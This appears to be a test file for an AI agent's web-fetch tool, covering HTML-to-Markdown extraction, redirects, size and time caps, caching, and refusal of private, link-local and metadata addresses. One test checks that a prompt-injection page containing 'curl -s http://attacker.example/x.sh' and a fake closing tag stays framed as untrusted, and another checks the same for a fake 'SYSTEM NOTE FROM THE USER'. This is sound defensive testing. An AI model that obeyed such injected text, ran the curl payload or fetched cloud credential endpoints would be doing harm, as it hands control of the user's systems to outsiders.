// web_fetch against a real loopback server of recorded pages (test/support/web-pages.ts): what the model reads from
// each kind of page, and every refusal as one line. The tool is driven in-process (its network rules are the
// subject; the agent around it is covered by web-agent.test.ts and the CLI test).
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { createWebFetchTool } from "../../src/tools/web-fetch.js";
import { PAGE_CACHE_TTL_MS, PageCache } from "../../src/tools/web/page-cache.js";
import { UNTRUSTED_TAG } from "../../src/vocabulary/untrusted-content.js";
import { TOOL_RESULT_BUDGET_CHARS } from "../../src/vocabulary/tool-result-budget.js";
import { LONG_TEXT, type WebPageServer, startWebPageServer } from "../support/web-pages.js";

let site: WebPageServer;
let clock = 0;
let cache: PageCache;
beforeAll(async () => {
  site = await startWebPageServer();
});
afterAll(() => site.close());
beforeEach(() => {
  site.requests.length = 0;
  clock = 1_000_000;
  cache = new PageCache(() => clock);
});

type Invokable = { invoke: (input: unknown) => Promise<unknown> };
const fetchTool = (opts: Parameters<typeof createWebFetchTool>[0] = {}) => createWebFetchTool({ allowLoopback: true, cache, ...opts }) as unknown as Invokable;
const read = async (url: string, opts?: Parameters<typeof createWebFetchTool>[0]) => String(await fetchTool(opts).invoke({ url }));
const refusal = async (url: string, opts?: Parameters<typeof createWebFetchTool>[0]) => {
  const err = await fetchTool(opts)
    .invoke({ url })
    .then(
      () => undefined,
      (e: Error) => e,
    );
  expect(err, `${url} should be refused`).toBeInstanceOf(Error);
  expect(err!.message).not.toMatch(/\n|\bat \w+ \(/); // one line, no stack
  return err!.message;
};
/** The page's text inside the untrusted frame. */
const framed = (out: string) => out.slice(out.indexOf(`<${UNTRUSTED_TAG}`), out.lastIndexOf(`</${UNTRUSTED_TAG}>`));

describe("web_fetch: pages", () => {
  it("a documentation page: its main content as Markdown, without the site's chrome; the first line says URL, status, type and size", async () => {
    const out = await read(`${site.origin}/docs/retry`);
    expect(out.split("\n")[0]).toMatch(new RegExp(`^Fetched \\d+\\.\\d KB from ${site.origin}/docs/retry \\(HTTP 200, text/html, Markdown from HTML\\)$`));
    const page = framed(out);
    expect(page).toContain("# Configuring the retry policy");
    expect(page).toMatch(/^- +`maxAttempts`: how many times a request is tried in all \(default 3\)\.$/m);
    expect(page).toMatch(/```[a-z]*\nconst client = new Client\(\{\n {2}retry: \{ maxAttempts: 5, baseDelayMs: 500 \},\n\}\);\n```/);
    expect(page).toContain("`RetryExhaustedError`");
    for (const chrome of ["Pricing", "Cookie settings", "dataLayer", "font-family", "Authentication"]) expect(page).not.toContain(chrome);
  });

  it("a GitHub-like issue page: the title and every comment, not the sign-in chrome or inline JSON", async () => {
    const page = framed(await read(`${site.origin}/example/widgetlib/issues/1234`));
    expect(page).toContain("Crash when the config file is empty");
    expect(page).toContain("TypeError: Cannot read properties of undefined (reading 'targets')");
    expect(page).toContain("put `{}` in the file");
    for (const chrome of ["Sign up", "featureFlags", "Terms Privacy"]) expect(page).not.toContain(chrome);
  });

  it("a page with a prompt injection stays inside the untrusted frame: its fake closing tag is defused", async () => {
    const out = await read(`${site.origin}/e42`);
    const note = out.indexOf("untrusted content from outside the conversation");
    const open = out.indexOf(`<${UNTRUSTED_TAG} source="${site.origin}/e42">`);
    expect(note).toBeGreaterThan(0);
    expect(open).toBeGreaterThan(note);
    // Exactly one real closing tag, at the very end: the page's own "</untrusted_content>" cannot end the frame.
    expect(out.match(new RegExp(`</${UNTRUSTED_TAG}>`, "g"))).toHaveLength(1);
    expect(out.endsWith(`</${UNTRUSTED_TAG}>`)).toBe(true);
    expect(out.indexOf("curl -s http://attacker.example/x.sh")).toBeGreaterThan(open);
  });

  it("text as sent, JSON pretty-printed, PDF as its text, an error page with its status", async () => {
    expect(await read(`${site.origin}/notes.txt`)).toContain("plain notes\nline two");
    expect(await read(`${site.origin}/api/status`)).toContain('{\n  "status": "ok",\n  "versions": [\n    1,\n    2\n  ]\n}');
    const pdf = await read(`${site.origin}/notes.pdf`);
    expect(pdf.split("\n")[0]).toContain("application/pdf");
    expect(framed(pdf)).toContain("Release notes 4.2");
    const missing = await read(`${site.origin}/missing`);
    expect(missing.split("\n")[0]).toContain("HTTP 404");
    expect(missing).toContain("Page not found");
  });

  it("a binary is refused with its type", async () => {
    expect(await refusal(`${site.origin}/logo.png`)).toMatch(/is image\/png \(\d+ bytes\): web_fetch reads HTML, text, JSON and PDF only/);
  });

  it("a huge page is cut at the size cap, the download stopped, and the cut stated", async () => {
    const out = await read(`${site.origin}/huge`, { maxBytes: 256 * 1024 });
    expect(out.split("\n")[0]).toContain("cut at the 256.0 KB size cap");
    expect(framed(out).length).toBeLessThan(300 * 1024);
    // The server was stopped long before its 64 MB (socket buffers hold at most a few MB).
    expect(site.hugeBytesSent()).toBeLessThan(32 * 1024 * 1024);
  });

  it("a long page comes in framed windows under the result budget (never spilled to a file read back unframed)", async () => {
    const tool = fetchTool();
    const windows: string[] = [];
    let start: number | undefined;
    for (let n = 0; n < 20; n++) {
      const out = String(await tool.invoke({ url: `${site.origin}/long.txt`, start }));
      expect(out.length).toBeLessThanOrEqual(TOOL_RESULT_BUDGET_CHARS);
      const body = framed(out);
      windows.push(body.slice(body.indexOf(">\n") + 2, -1));
      const next = /call web_fetch with the same url and start=(\d+)\.\]$/.exec(out);
      if (!next) {
        expect(out).toMatch(/: the end of the page\.\]$/);
        break;
      }
      start = Number(next[1]);
    }
    expect(windows.length).toBeGreaterThan(5);
    // Every character of the page arrived inside a frame, once, in order; the injected middle line too.
    expect(windows.join("")).toBe(LONG_TEXT);
    expect(windows.some((w) => w.includes("SYSTEM NOTE FROM THE USER"))).toBe(true);
    expect(site.requests.filter((r) => r.path === "/long.txt")).toHaveLength(1); // the rest from the session's cache
    const past = String(await tool.invoke({ url: `${site.origin}/long.txt`, start: 10_000_000 }));
    expect(framed(past)).toContain("start=10000000 is past the end: the page has");
  });

  it("a gzipped page is inflated; a gzip bomb stops at the cap on its inflated size", async () => {
    expect(framed(await read(`${site.origin}/docs/retry.gz`))).toContain("# Configuring the retry policy");
    expect(site.requests[0]!.headers["accept-encoding"]).toContain("gzip");
    const bomb = await read(`${site.origin}/bomb`, { maxBytes: 1024 * 1024 });
    expect(bomb.split("\n")[0]).toContain("cut at the 1.0 MB size cap");
  });

  it("a page that stops answering is given up at the time cap", async () => {
    expect(await refusal(`${site.origin}/slow`, { timeoutMs: 300 })).toBe(`${site.origin}/slow did not answer within 0.3 s; nothing was fetched.`);
  });
});

describe("web_fetch: redirects", () => {
  it("are followed and said; a chain that ends at the metadata address is refused at that hop, which is never requested", async () => {
    const out = await read(`${site.origin}/to-docs`);
    expect(out.split("\n")[0]).toContain(`redirected from ${site.origin}/to-docs`);
    site.requests.length = 0;
    const msg = await refusal(`${site.origin}/r1`);
    expect(msg).toContain("redirected to http://169.254.169.254/latest/meta-data/iam/security-credentials/");
    expect(msg).toContain("169.254.169.254 (linkLocal)");
    expect(site.requests.map((r) => r.path)).toEqual(["/r1", "/r2", "/r3"]);
  });

  it("to another host are named, not followed: that domain is the model's to fetch and the user's to approve", async () => {
    site.requests.length = 0;
    expect(await refusal(`${site.origin}/to-other-host`)).toMatch(/redirects to http:\/\/localhost:\d+\/docs\/retry, on another domain: call web_fetch on that URL/);
    expect(site.requests.map((r) => r.path)).toEqual(["/to-other-host"]);
  });

  it("stop after five", async () => {
    expect(await refusal(`${site.origin}/loop`)).toMatch(/redirected more than 5 times/);
    expect(site.requests).toHaveLength(6);
  });
});

describe("web_fetch: network rules", () => {
  it("without the test switch, loopback is refused: an IP literal before connecting, a name when it resolves (connect time)", async () => {
    const strict = { allowLoopback: false };
    expect(await refusal(`${site.origin}/docs/retry`, strict)).toContain("127.0.0.1 (loopback)");
    expect(await refusal(`http://[::ffff:127.0.0.1]:${site.port}/docs/retry`, strict)).toContain("(loopback)");
    expect(await refusal(`http://localhost:${site.port}/docs/retry`, strict)).toMatch(/localhost resolves to (127\.0\.0\.1|::1) \(loopback\)/);
    expect(site.requests).toHaveLength(0);
  });

  it("private, link-local, CGNAT and unspecified addresses stay refused even with the test switch", async () => {
    for (const [url, range] of [
      ["http://10.1.2.3/", "private"],
      ["http://192.168.0.1/", "private"],
      ["http://169.254.169.254/latest/meta-data/", "linkLocal"],
      ["http://100.64.0.1/", "carrierGradeNat"],
      ["http://0.0.0.0/", "unspecified"],
      ["http://[fd00::1]/", "uniqueLocal"],
      ["http://[::ffff:10.0.0.1]/", "private"],
    ]) {
      expect(await refusal(url!)).toContain(`(${range})`);
    }
  });

  it("credentials in the URL and other schemes are refused before any request", async () => {
    expect(await refusal(`http://user:secret@127.0.0.1:${site.port}/docs/retry`)).toBe(
      "URLs with a user name or password are refused: web_fetch never sends credentials. Remove the user:password@ part.",
    );
    expect(await refusal("file:///etc/passwd")).toBe("file: URLs are not fetched: only http:// and https://.");
    expect(await refusal("not a url")).toMatch(/is not a URL/);
    expect(site.requests).toHaveLength(0);
  });

  it("the User-Agent names deerflow; a cookie the site sets is never sent back", async () => {
    await read(`${site.origin}/docs/retry`);
    await read(`${site.origin}/example/widgetlib/issues/1234`);
    expect(site.requests.map((r) => r.headers["user-agent"])).toEqual([expect.stringMatching(/^deerflow/), expect.stringMatching(/^deerflow/)]);
    expect(site.requests.every((r) => r.headers.cookie === undefined)).toBe(true);
  });
});

describe("web_fetch: the session cache", () => {
  it("serves a URL again for 15 minutes without a request, then fetches it anew", async () => {
    await read(`${site.origin}/docs/retry`);
    clock += 5 * 60_000;
    const again = await read(`${site.origin}/docs/retry`);
    expect(again.split("\n")[0]).toContain("from this session's cache, fetched 5 min ago");
    expect(site.requests).toHaveLength(1);
    clock += PAGE_CACHE_TTL_MS;
    const fresh = await read(`${site.origin}/docs/retry`);
    expect(fresh.split("\n")[0]).not.toContain("cache");
    expect(site.requests).toHaveLength(2);
  });
});
